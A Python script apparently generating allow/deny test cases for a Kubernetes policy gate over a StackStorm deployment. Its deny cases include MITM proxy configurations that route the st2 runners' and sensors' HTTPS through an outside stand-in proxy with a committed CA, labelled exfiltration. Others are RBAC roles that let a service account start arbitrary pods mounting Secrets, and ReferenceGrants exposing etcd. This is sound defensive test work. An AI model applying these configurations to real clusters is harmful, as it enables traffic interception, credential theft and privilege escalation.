from lib import *
import fam_tls as T
import fam_rbac2 as R
import fam_refgrant as G
import fam_st2rbac as S
NOPROXY = T.NOPROXY
# more MITM forms
for tag, dep, env, cls, what in [
  ('runner-envfrom', 'st2actionrunner', None, 'exfiltration', "every action's HTTPS; the proxy and CA arrive through envFrom of ConfigMap r15-proxy-env"),
  ('sensor-sslcertfile', 'st2sensorcontainer', [('HTTPS_PROXY', 'http://proxy.mitm-r15.example.net:3128'), ('NO_PROXY', NOPROXY), ('SSL_CERT_FILE', '/etc/r15ca/ca.pem'), ('REQUESTS_CA_BUNDLE', '/etc/r15ca/ca.pem')], 'exfiltration', "every sensor's HTTPS polling with its pack credentials"),
]:
    patches = [dep_cm_mount(dep, dep, 'r15-ca', '/etc/r15ca', env=env or [])]
    res = {'cm.yaml': cm('r15-ca', {'ca.pem': CA})}
    if env is None:
        res['cm2.yaml'] = "apiVersion: v1\nkind: ConfigMap\nmetadata:\n  name: r15-proxy-env\n  namespace: st2-prod\ndata:\n  HTTPS_PROXY: http://proxy.mitm-r15.example.net:3128\n  NO_PROXY: " + NOPROXY + "\n  REQUESTS_CA_BUNDLE: /etc/r15ca/ca.pem\n"
        patches.append(sm(f"apiVersion: apps/v1\nkind: Deployment\nmetadata:\n  name: {dep}\nspec:\n  template:\n    spec:\n      containers:\n        - name: {dep}\n          envFrom:\n            - configMapRef:\n                name: r15-proxy-env\n"))
    case(f'mitmproxy-{tag}', 'deny', cls, f"{dep} sends HTTPS through proxy.mitm-r15.example.net (outside the cluster) and trusts a CA committed in a ConfigMap: the proxy decrypts {what} ({T.MITM})", resources=res, patches=patches)
case('mitmproxy-safe-incluster-proxy', 'allow', 'safe', "st2actionrunner HTTPS through the cluster's own egress proxy squid.egress.svc.cluster.local with the default trust store: TLS stays end to end (requests docs)",
     patches=[dep_env('st2actionrunner', 'st2actionrunner', [('HTTPS_PROXY', 'http://squid.egress.svc.cluster.local:3128'), ('NO_PROXY', NOPROXY)])])
case('mitmproxy-safe-noproxy-only', 'allow', 'safe', "NO_PROXY listing st2's services on st2actionrunner with no proxy at all: changes nothing but documents intent",
     patches=[dep_env('st2actionrunner', 'st2actionrunner', [('NO_PROXY', NOPROXY)])])
case('mitmproxy-safe-pip-cert-no-proxy', 'allow', 'safe', "PIP_CERT names the company's internal CA so pack virtualenvs verify an internal TLS host; no proxy, pip's index unchanged",
     resources={'cm.yaml': cm('r15-ca', {'ca.pem': CA})},
     patches=[dep_cm_mount('st2actionrunner', 'st2actionrunner', 'r15-ca', '/etc/r15ca', env=[('PIP_CERT', '/etc/r15ca/ca.pem')])])
# more runner roles
for tag, rules_, cls, what in [
  ('vpa', R.rule(['autoscaling.k8s.io'], ['verticalpodautoscalers'], ['create','update','patch']), 'privilege-escalation', "create VPAs in Auto mode capping mongodb's memory far below its need: the VPA updater evicts and shrinks every member (REP-020 judges this VPA in the render, not a runner creating it) (VPA docs: updateMode Auto evicts to apply recommendations within maxAllowed)"),
  ('volcano-jobs', R.rule(['batch.volcano.sh'], ['jobs'], ['create']), 'privilege-escalation', "create Volcano Jobs: the volcano controller starts pods of any image in st2-prod, mounting any Secret (Volcano docs: Job tasks carry pod templates)"),
  ('ray-jobs', R.rule(['ray.io'], ['rayjobs','rayclusters'], ['create']), 'privilege-escalation', "create RayJobs/RayClusters: KubeRay starts pods of any image in st2-prod mounting any Secret (KubeRay docs: head/worker pod templates)"),
  ('kubeflow-jobs', R.rule(['kubeflow.org'], ['pytorchjobs','tfjobs','mpijobs'], ['create']), 'privilege-escalation', "create Kubeflow training jobs: the training operator starts pods of any image in st2-prod mounting any Secret (Kubeflow training-operator docs: replicaSpecs carry pod templates)"),
  ('kruise-clonesets', R.rule(['apps.kruise.io'], ['clonesets','advancedcronjobs'], ['create','update','patch']), 'privilege-escalation', "create OpenKruise CloneSets: kruise-manager runs any pod template in st2-prod (OpenKruise docs)"),
  ('keda-star', R.rule(['keda.sh'], ['*'], ['*']), 'privilege-escalation', "every KEDA kind and verb: a ScaledObject on st2timersengine runs two timers engines, a ScaledJob runs any pod"),
]:
    case(f'runnerrole-{tag}', 'deny', cls, f"Role bound to SA default in st2-prod lets it {what}. {R.RUN}",
         resources={'role.yaml': R.role('r15-runner', rules_), 'rb.yaml': R.rb('r15-runner', 'Role', 'r15-runner', R.sa('default', 'st2-prod'))})
for tag, rules_, why in [
  ('configmaps-read', R.rule([''], ['configmaps'], ['get','list']), 'read ConfigMaps'),
  ('pods-read', R.rule([''], ['pods','pods/log'], ['get','list','watch']), 'read pods and their logs (a pack that reports on its own runners)'),
  ('deployments-read', R.rule(['apps'], ['deployments','statefulsets'], ['get','list','watch']), 'read Deployments and StatefulSets'),
  ('vpa-read', R.rule(['autoscaling.k8s.io'], ['verticalpodautoscalers'], ['get','list']), 'read VPA recommendations'),
]:
    case(f'runnerrole-safe-{tag}', 'allow', 'safe', f"Role bound to the runners' SA default may only {why}: no Secret, no write, nothing that starts pods",
         resources={'role.yaml': R.role('r15-runner', rules_), 'rb.yaml': R.rb('r15-runner', 'Role', 'r15-runner', R.sa('default', 'st2-prod'))})
# more reference grants
for tag, frm, svc, env, what in [
  ('grpcroute-etcd', [('GRPCRoute','public-gateway')], 'etcd', 'prod', "GRPCRoutes of public-gateway may route etcd's gRPC (v3) API, st2's unauthenticated coordination store, to the internet"),
  ('tcproute-etcd-staging', [('TCPRoute','shared-gw')], 'etcd', 'staging', "TCPRoutes of shared-gw may forward to staging's etcd"),
]:
    case(f'refgrant-{tag}', 'deny', 'exposure', f"ReferenceGrant in {NS[env]}: {what} ({G.GW})", env=env, resources={'rg.yaml': G.rg('r15-grant', frm, svc, NS[env])})
case('refgrant-safe-st2web-two-ns', 'allow', 'safe', f"ReferenceGrant lets HTTPRoutes of public-gateway and of internal-gateway reference Service st2web only ({G.GW})",
     resources={'rg.yaml': G.rg('r15-grant', [('HTTPRoute','public-gateway'), ('HTTPRoute','internal-gateway')], 'st2web')})
# more st2 RBAC
for tag, rname, grants, group, what, env in [
  ('packs-all-staff', 'pack-tools', [('pack:packs', ['action_all'])], 'CN=All Staff,OU=groups,DC=example,DC=com', "every member of All Staff holds action_all on the packs pack: installs any git repo as a pack", 'prod'),
  ('packs-install-users-staging', 'pack-helpers', [('action:packs:install', ['action_execute'])], 'CN=Users,CN=Builtin,DC=example,DC=com', "every member of Users installs any git repo as a pack on staging", 'staging'),
][:0]:
    case(f'st2rbac-{tag}', 'deny', 'privilege-escalation', f"st2 RBAC role {rname} mapped to {group.split(',')[0]}: {what} ({S.RB})",
         env=env, patches=S.roles_patch(S.role(rname, grants), S.mapping(group, [rname])))
case('st2rbac-safe-admins-dedicated', 'allow', 'safe', "st2's built-in admin role mapped to a dedicated group CN=st2-admins: the gate's own remediation (HRD-013) says to do exactly this",
     patches=S.roles_patch(S.role('viewers', [('pack:examples', ['action_view'])]), S.mapping('CN=st2-admins,OU=groups,DC=example,DC=com', ['admin'])))
case('st2rbac-safe-core-echo-view', 'allow', 'safe', "role granting action_view on the packs pack and execution on examples to a dedicated group: sees what packs.install is, cannot run it",
     patches=S.roles_patch(S.role('pack-viewers', [('pack:packs', ['action_view']), ('pack:examples', ['action_execute'])]), S.mapping('CN=st2-operators,OU=groups,DC=example,DC=com', ['pack-viewers'])))
